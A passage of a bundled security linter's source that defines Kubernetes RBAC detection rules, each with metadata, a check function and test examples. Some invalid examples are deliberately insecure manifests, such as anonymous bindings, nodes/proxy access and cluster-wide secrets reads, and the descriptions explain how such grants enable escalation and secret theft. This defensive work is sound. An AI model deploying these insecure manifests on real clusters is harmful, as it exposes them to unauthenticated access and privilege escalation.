    const who = everyone.map((subject) => subject.name === "system:authenticated" ? "every authenticated user (system:authenticated)" : "every service account (system:serviceaccounts)").join(" and ");
    report({ at: everyone[0].path, message: `${binding.name} grants ${role.kind} ${role.name} to ${who}` });
  },
  examples: {
    valid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: team-view
  namespace: shop
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: view
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: shop-developers
`
      }
    ],
    invalid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: everyone-can-view
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: view
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: system:authenticated
`,
        errors: [{ line: 10, column: 5, messageIncludes: "every authenticated user" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-anonymous-binding.ts
var k8s_rbac_anonymous_binding_default = defineRule({
  meta: {
    id: "k8s-rbac-anonymous-binding",
    title: "RBAC binding grants a role to anonymous users (system:anonymous, system:unauthenticated)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["RoleBinding", "ClusterRoleBinding"],
    description: "The binding gives a role to `system:anonymous` or `system:unauthenticated`: anyone who can reach the API server, without any credential, gets its permissions. Exposed API servers are scanned for this constantly.",
    remediation: "Remove the anonymous subjects; bind the role to the authenticated users, groups or service accounts that need it.",
    precision: "very-high",
    cwe: ["CWE-306", "CWE-284"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Authentication: disable anonymous access"] },
    tags: ["rbac", "k8s-rbac", "anonymous"],
    references: ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#default-roles-and-role-bindings", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(binding, { report }) {
    const role = roleRefOf(binding);
    if (!role || PUBLIC_DEFAULT_ROLES.has(role.name)) return;
    const anonymous = broadSubjects(binding, /* @__PURE__ */ new Set(["system:unauthenticated"]), /* @__PURE__ */ new Set(["system:anonymous"]));
    if (anonymous.length === 0) return;
    report({ at: anonymous[0].path, message: `${binding.name} grants ${role.kind} ${role.name} to anonymous, unauthenticated users (${anonymous.map((subject) => subject.name).join(", ")})` });
  },
  examples: {
    valid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: system:public-info-viewer
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: system:public-info-viewer
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: system:unauthenticated
`
      }
    ],
    invalid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: public-dashboard
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: view
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: User
    name: system:anonymous
`,
        errors: [{ line: 10, column: 5, messageIncludes: "anonymous, unauthenticated users (system:anonymous)" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-cluster-admin-binding.ts
var REPORTED_ELSEWHERE = /^system:(anonymous|unauthenticated|authenticated|serviceaccounts(:.*)?|masters)$/;
var k8s_rbac_cluster_admin_binding_default = defineRule({
  meta: {
    id: "k8s-rbac-cluster-admin-binding",
    title: "RBAC binding grants cluster-admin to users or groups",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRoleBinding", "RoleBinding"],
    description: "The binding gives the built-in `cluster-admin` role to users or groups: through a ClusterRoleBinding, full control of the cluster; through a RoleBinding, full control of the namespace, Secrets and RBAC included. Standing administrator access should be rare, named and reviewed; day-to-day work needs narrower roles.",
    remediation: "Bind the built-in `admin`, `edit` or `view` roles, or a custom role, instead; keep cluster-admin for a small break-glass group with just-in-time access.",
    precision: "high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.1"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "cluster-admin"],
    references: ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(binding, { report }) {
    const role = roleRefOf(binding);
    if (!role || role.kind !== "ClusterRole" || role.name !== "cluster-admin") return;
    const people = subjectsOf(binding).filter((subject) => (subject.kind === "User" || subject.kind === "Group") && !REPORTED_ELSEWHERE.test(subject.name));
    if (people.length === 0) return;
    const scope = binding.type === "ClusterRoleBinding" ? "across the cluster" : "in its namespace";
    report({ at: ["roleRef", "name"], message: `${binding.name} grants cluster-admin ${scope} to ${people.map(describeSubject).join(", ")}` });
  },
  examples: {
    valid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: shop-developers
  namespace: shop
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: edit
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: shop-developers
`
      }
    ],
    invalid: [
      {
        filename: "binding.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: platform-team
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: platform-team
  - apiGroup: rbac.authorization.k8s.io
    kind: User
    name: jane@example.com
`,
        errors: [{ line: 8, column: 3, messageIncludes: "cluster-admin across the cluster to group platform-team, user jane@example.com" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-create-workloads.ts
var WORKLOAD_RESOURCES = /* @__PURE__ */ new Set(["pods", "deployments", "daemonsets", "statefulsets", "replicasets", "replicationcontrollers", "jobs", "cronjobs"]);
var k8s_rbac_create_workloads_default = defineRule({
  meta: {
    id: "k8s-rbac-create-workloads",
    title: "RBAC role can create pods or workloads",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "The role can create pods, or controllers that create pods (Deployments, DaemonSets, Jobs...). Whoever can create a pod in a namespace can run it as any service account of that namespace and mount any of its Secrets; without an admission policy it can also run privileged and mount the node.",
    remediation: "Keep workload creation to deployment pipelines and controllers; enforce the Pod Security Standards on namespaces where such roles are bound.",
    precision: "medium",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.4"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "workload-creation"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: ["", "apps", "batch", "extensions"], resources: WORKLOAD_RESOURCES, verbs: ["create"] })) {
      report({ at: grant.resources[0].path, message: `${role.name} can create workloads, and so run pods as any service account of their namespace (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: restarter
  namespace: shop
rules:
  - apiGroups: ["apps"]
    resources: ["deployments"]
    verbs: ["get", "patch"]
`
      }
    ],
    invalid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: job-runner
  namespace: batch
rules:
  - apiGroups: ["batch"]
    resources: ["jobs"]
    verbs: ["create", "get", "list"]
`,
        errors: [{ line: 8, column: 17, messageIncludes: "create on jobs" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-csr-approval.ts
var k8s_rbac_csr_approval_default = defineRule({
  meta: {
    id: "k8s-rbac-csr-approval",
    title: "RBAC role can approve certificate signing requests",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRole"],
    description: "`update` on `certificatesigningrequests/approval` lets a subject approve its own certificate requests: with a signer that issues client certificates it can get one for any user or group, `system:masters` included on some clusters, which RBAC cannot revoke.",
    remediation: "Leave approval to the cluster's built-in approver; grant it to a dedicated controller only, limited to its signer.",
    precision: "high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.11"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "certificatesigningrequest"],
    references: ["https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/#authorization", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#csrs-and-certificate-issuing"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: ["certificates.k8s.io"], resources: /* @__PURE__ */ new Set(["certificatesigningrequests/approval"]), verbs: ["update", "patch"] })) {
      report({ at: grant.resources[0].path, message: `${role.name} can approve certificate signing requests (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: csr-requester
rules:
  - apiGroups: ["certificates.k8s.io"]
    resources: ["certificatesigningrequests"]
    verbs: ["create", "get"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: csr-approver
rules:
  - apiGroups: ["certificates.k8s.io"]
    resources: ["certificatesigningrequests", "certificatesigningrequests/approval"]
    verbs: ["get", "list", "update"]
`,
        errors: [{ line: 7, column: 47 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-escalate-bind-impersonate.ts
var ESCALATION_VERBS = ["escalate", "bind", "impersonate"];
var k8s_rbac_escalate_bind_impersonate_default = defineRule({
  meta: {
    id: "k8s-rbac-escalate-bind-impersonate",
    title: "RBAC role grants escalate, bind or impersonate verbs",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "`escalate` lets a subject write roles with permissions it does not have, `bind` lets it bind any role (cluster-admin included) to itself, and `impersonate` lets it act as other users, groups or service accounts. Each one bypasses RBAC's built-in protection against privilege escalation.",
    remediation: "Remove these verbs; when a controller must bind roles, limit `bind` with `resourceNames` to the roles it manages.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.8"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "privilege-escalation"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#escalate-verb", "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping"]
  },
  check(role, { report }) {
    for (const rule of rbacRules(role)) {
      if (rule.partial || wildcardShape(rule) !== "none") continue;
      const verbs = rule.verbs.filter((verb) => ESCALATION_VERBS.includes(verb));
      if (verbs.length === 0) continue;
      const on = rule.resources.filter((resource) => resource !== "").join(", ");
      report({ at: ["rules", rule.index, "verbs", rule.verbs.indexOf(verbs[0])], message: `${role.name} grants ${verbs.join(", ")} on ${on}: a way around RBAC privilege escalation checks` });
    }
  },
  examples: {
    valid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: rbac-viewer
rules:
  - apiGroups: ["rbac.authorization.k8s.io"]
    resources: ["roles", "rolebindings", "clusterroles", "clusterrolebindings"]
    verbs: ["get", "list", "watch"]
`
      },
      {
        name: "a wildcard resource list is reported by k8s-rbac-wildcard-resources instead",
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: binder
  namespace: shop
rules:
  - apiGroups: ["rbac.authorization.k8s.io"]
    resources: ["*"]
    verbs: ["bind"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: team-onboarding
rules:
  - apiGroups: ["rbac.authorization.k8s.io"]
    resources: ["clusterroles"]
    verbs: ["get", "bind", "escalate"]
  - apiGroups: [""]
    resources: ["users", "groups", "serviceaccounts"]
    verbs:
      - impersonate
`,
        errors: [
          { line: 8, column: 20, messageIncludes: "bind, escalate" },
          { line: 12, column: 9, messageIncludes: "impersonate" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-nodes-proxy.ts
var k8s_rbac_nodes_proxy_default = defineRule({
  meta: {
    id: "k8s-rbac-nodes-proxy",
    title: "RBAC role grants access to the kubelet API (nodes/proxy)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRole"],
    description: "`nodes/proxy` reaches the kubelet API of every node through the API server: its subjects can run commands in any pod on any node, and those requests bypass the audit log entries and admission control that `pods/exec` goes through.",
    remediation: "Remove `nodes/proxy`; monitoring agents should read `nodes/metrics` and `nodes/stats` instead.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.10"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "kubelet"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#access-to-proxy-subresource-of-nodes"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: [""], resources: /* @__PURE__ */ new Set(["nodes/proxy"]), verbs: ["get", "create", "update", "patch", "delete"] })) {
      report({ at: grant.resources[0].path, message: `${role.name} reaches the kubelet API of every node (${describeGrant(grant)}), enough to run commands in any pod` });
    }
  },
  examples: {
    valid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: metrics-scraper
rules:
  - apiGroups: [""]
    resources: ["nodes/metrics", "nodes/stats"]
    verbs: ["get"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: metrics-scraper
rules:
  - apiGroups: [""]
    resources: ["nodes", "nodes/proxy"]
    verbs: ["get", "list"]
`,
        errors: [{ line: 7, column: 26, messageIncludes: "get on nodes/proxy" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-persistent-volume-create.ts
var k8s_rbac_persistent_volume_create_default = defineRule({
  meta: {
    id: "k8s-rbac-persistent-volume-create",
    title: "RBAC role can create PersistentVolumes (hostPath volumes on any node)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRole"],
    description: "PersistentVolumes are cluster-wide and may be of type `hostPath`: a subject that can create them can hand any claim a directory of the node's filesystem, which admission policies checking pod volumes do not see. Volumes should come from StorageClasses and CSI provisioners instead.",
    remediation: "Remove `create` on `persistentvolumes`; let users request storage through PersistentVolumeClaims and dynamic provisioning.",
    precision: "high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.9"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "host-path"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#persistent-volume-creation"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: [""], resources: /* @__PURE__ */ new Set(["persistentvolumes"]), verbs: ["create"] })) {
      report({ at: grant.resources[0].path, message: `${role.name} can create PersistentVolumes, including hostPath volumes on the nodes (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: storage-viewer
rules:
  - apiGroups: [""]
    resources: ["persistentvolumes", "persistentvolumeclaims"]
    verbs: ["get", "list", "watch"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: storage-admin
rules:
  - apiGroups: [""]
    resources: ["persistentvolumes"]
    verbs: ["get", "list", "create", "delete"]
`,
        errors: [{ line: 7, column: 17, messageIncludes: "create on persistentvolumes" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-pod-exec.ts
var k8s_rbac_pod_exec_default = defineRule({
  meta: {
    id: "k8s-rbac-pod-exec",
    title: "RBAC role allows exec or attach into pods (pods/exec, pods/attach)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "The role grants `create` (or `get`, which older API servers accepted for websocket exec) on `pods/exec` or `pods/attach`: its subjects can run commands in any pod of its scope, with that pod's service account token, mounted Secrets and network position.",
    remediation: "Remove exec and attach from roles used by applications and automation; grant them to people through a separate, audited role, limited with `resourceNames` where possible.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "exec"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: [""], resources: /* @__PURE__ */ new Set(["pods/exec", "pods/attach"]), verbs: ["create", "get"] })) {
      report({ at: grant.resources[0].path, message: `${role.name} can run commands in pods (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: log-reader
  namespace: shop
rules:
  - apiGroups: [""]
    resources: ["pods", "pods/log"]
    verbs: ["get", "list"]
`
      }
    ],
    invalid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: debugger
  namespace: shop
rules:
  - apiGroups: [""]
    resources: ["pods"]
    verbs: ["get", "list"]
  - apiGroups: [""]
    resources: ["pods/exec"]
    verbs: ["create"]
`,
        errors: [{ line: 11, column: 17, messageIncludes: "create on pods/exec" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-secrets-read.ts
var k8s_rbac_secrets_read_default = defineRule({
  meta: {
    id: "k8s-rbac-secrets-read",
    title: "RBAC role can read secrets (get/list/watch on secrets)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "The role can get, list or watch every Secret in its scope: database passwords, TLS keys, registry credentials and, where they still exist, service account tokens of more privileged accounts. In a ClusterRole that is every Secret of the cluster. `list` and `watch` return the values too, not only the names.",
    remediation: "Restrict the rule with `resourceNames` to the Secrets the subject needs, or mount those Secrets into the workload instead of reading them through the API.",
    precision: "high",
    cwe: ["CWE-269", "CWE-522"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.2"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "secrets"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets"]
  },
  check(role, { report }) {
    const grants = explicitGrants(role, { groups: [""], resources: /* @__PURE__ */ new Set(["secrets"]), verbs: ["get", "list", "watch"], ignoreNamed: true });
    for (const grant of grants) {
      const scope = role.type === "ClusterRole" ? "every Secret of the cluster" : "every Secret of its namespace";
      report({ at: grant.resources[0].path, message: `${role.name} can read ${scope} (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        name: "named secrets only",
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: tls-reader
  namespace: web
rules:
  - apiGroups: [""]
    resources: ["secrets"]
    resourceNames: ["web-tls"]
    verbs: ["get"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: config-sync
rules:
  - apiGroups: [""]
    resources: ["configmaps", "secrets"]
    verbs: ["get", "list", "watch"]
`,
        errors: [{ line: 7, column: 31, messageIncludes: "every Secret of the cluster" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-service-account-token-create.ts
var k8s_rbac_service_account_token_create_default = defineRule({
  meta: {
    id: "k8s-rbac-service-account-token-create",
    title: "RBAC role can mint service account tokens (serviceaccounts/token)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "`create` on `serviceaccounts/token` issues API tokens for service accounts in the role's scope: its subjects can act as the most privileged account there, without running a pod or reading a Secret.",
    remediation: "Remove the permission, or limit it with `resourceNames` to the accounts the subject must issue tokens for.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.13"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "service-account"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(role, { report }) {
    for (const grant of explicitGrants(role, { groups: [""], resources: /* @__PURE__ */ new Set(["serviceaccounts/token"]), verbs: ["create"], ignoreNamed: true })) {
      report({ at: grant.resources[0].path, message: `${role.name} can mint tokens for any service account in its scope (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: token-issuer
  namespace: ci
rules:
  - apiGroups: [""]
    resources: ["serviceaccounts/token"]
    resourceNames: ["deployer"]
    verbs: ["create"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: token-issuer
rules:
  - apiGroups: [""]
    resources: ["serviceaccounts/token"]
    verbs: ["create"]
`,
        errors: [{ line: 7, column: 17 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-webhook-configuration.ts
var k8s_rbac_webhook_configuration_default = defineRule({
  meta: {
    id: "k8s-rbac-webhook-configuration",
    title: "RBAC role can change admission webhook configurations",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ClusterRole"],
    description: "Write access to `mutatingwebhookconfigurations` or `validatingwebhookconfigurations` lets a subject send every object created in the cluster (Secrets included) to a server it controls, rewrite pods as they are admitted, or remove the webhooks that enforce security policy.",
    remediation: "Grant webhook configuration writes only to the controller that owns them, limited with `resourceNames` to its own configurations.",
    precision: "high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.12"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "admission-webhook"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#control-admission-webhooks"]
  },
  check(role, { report }) {
    const resources = /* @__PURE__ */ new Set(["mutatingwebhookconfigurations", "validatingwebhookconfigurations"]);
    for (const grant of explicitGrants(role, { groups: ["admissionregistration.k8s.io"], resources, verbs: ["create", "update", "patch", "delete"], ignoreNamed: true })) {
      report({ at: grant.resources[0].path, message: `${role.name} can change admission webhooks (${describeGrant(grant)})` });
    }
  },
  examples: {
    valid: [
      {
        name: "a controller limited to its own webhook",
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: cert-injector
rules:
  - apiGroups: ["admissionregistration.k8s.io"]
    resources: ["validatingwebhookconfigurations"]
    resourceNames: ["shop-validator"]
    verbs: ["get", "update"]
`
      }
    ],
    invalid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: policy-operator
rules:
  - apiGroups: ["admissionregistration.k8s.io"]
    resources: ["mutatingwebhookconfigurations", "validatingwebhookconfigurations"]
    verbs: ["get", "list", "create", "update", "delete"]
`,
        errors: [{ line: 7, column: 17, messageIncludes: "create, update, delete on mutatingwebhookconfigurations, validatingwebhookconfigurations" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-wildcard-resources.ts
var k8s_rbac_wildcard_resources_default = defineRule({
  meta: {
    id: "k8s-rbac-wildcard-resources",
    title: "RBAC role grants verbs on wildcard resources (*), secrets included",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "A rule of the role grants its verbs on `*` resources: every resource type of its API groups, including Secrets, `pods/exec` and resource types added later by new versions or CustomResourceDefinitions. Even read-only verbs on `*` in the core group read every Secret. Wildcard verbs on every resource are reported by k8s-rbac-wildcard.",
    remediation: "List the resources the subject needs; leave out `secrets` and subresources such as `pods/exec` unless they are required.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "wildcard"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(role, { report }) {
    for (const rule of rbacRules(role)) {
      if (wildcardShape(rule) !== "resources") continue;
      const core = rule.apiGroups.includes("") || rule.apiGroups.includes("*");
      const reads = rule.verbs.some((verb) => verb === "get" || verb === "list" || verb === "watch");
      const secrets = core && reads ? ", secrets included" : "";
      const escalation = rule.verbs.filter((verb) => verb === "escalate" || verb === "bind" || verb === "impersonate");
      const escalates = escalation.length > 0 ? `, with the privilege escalation ${escalation.length === 1 ? "verb" : "verbs"} ${escalation.join(", ")}` : "";
      const groups = rule.apiGroups.map((group) => group === "" ? "core" : group).join(", ") || "no";
      report({
        at: ["rules", rule.index, "resources", rule.resources.indexOf("*")],
        message: `${role.name} grants ${rule.verbs.join(", ")} on every resource (*) of the ${groups} API ${rule.apiGroups.length === 1 ? "group" : "groups"}${secrets}${escalates} (rule ${rule.index + 1})`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: pod-reader
rules:
  - apiGroups: [""]
    resources: ["pods", "pods/log"]
    verbs: ["get", "list", "watch"]
`
      }
    ],
    invalid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: reader
  namespace: shop
rules:
  - apiGroups: [""]
    resources: ["*"]
    verbs: ["get", "list", "watch"]
`,
        errors: [{ line: 8, column: 17, messageIncludes: "every resource (*) of the core API group, secrets included" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-wildcard-verbs.ts
var k8s_rbac_wildcard_verbs_default = defineRule({
  meta: {
    id: "k8s-rbac-wildcard-verbs",
    title: "RBAC role grants wildcard verbs (*) on resources",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "A rule of the role grants `*` verbs on named resources: every action on them, including `delete`, `deletecollection`, `escalate`, `bind` and `impersonate` where they apply, and any verb added by future Kubernetes versions or extensions. Wildcard verbs on every resource are reported by k8s-rbac-wildcard.",
    remediation: "List the verbs the subject needs (`get`, `list`, `watch`, `create`, `update`, `patch`, `delete`).",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.3"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "wildcard"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(role, { report }) {
    for (const rule of rbacRules(role)) {
      if (wildcardShape(rule) !== "verbs") continue;
      const resources = rule.resources.filter((resource) => resource !== "").join(", ") || "no named resources";
      report({ at: ["rules", rule.index, "verbs", rule.verbs.indexOf("*")], message: `${role.name} grants every verb (*) on ${resources} (rule ${rule.index + 1})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: deployer
  namespace: shop
rules:
  - apiGroups: ["apps"]
    resources: ["deployments"]
    verbs: ["get", "list", "watch", "update", "patch"]
`
      },
      {
        name: "every verb on every resource is reported by k8s-rbac-wildcard instead",
        filename: "clusterrole.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: everything
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
`
      }
    ],
    invalid: [
      {
        filename: "role.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: deployer
  namespace: shop
rules:
  - apiGroups: ["apps"]
    resources: ["deployments", "replicasets"]
    verbs: ["*"]
`,
        errors: [{ line: 9, column: 13, messageIncludes: "every verb (*) on deployments, replicasets" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-wildcard.ts
var k8s_rbac_wildcard_default = defineRule({
  meta: {
    id: "k8s-rbac-wildcard",
    title: "RBAC role grants wildcard verbs on wildcard resources",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Role", "ClusterRole"],
    description: "A rule grants `*` verbs on `*` resources: every current and future permission in its scope, including reading secrets, creating pods that mount the host and granting itself more roles. In a ClusterRole that is the equivalent of cluster-admin.",
    remediation: "List the API groups, resources and verbs the subject needs; bind the built-in `view` or `edit` roles where they fit.",
    precision: "very-high",
    cwe: ["CWE-269"],
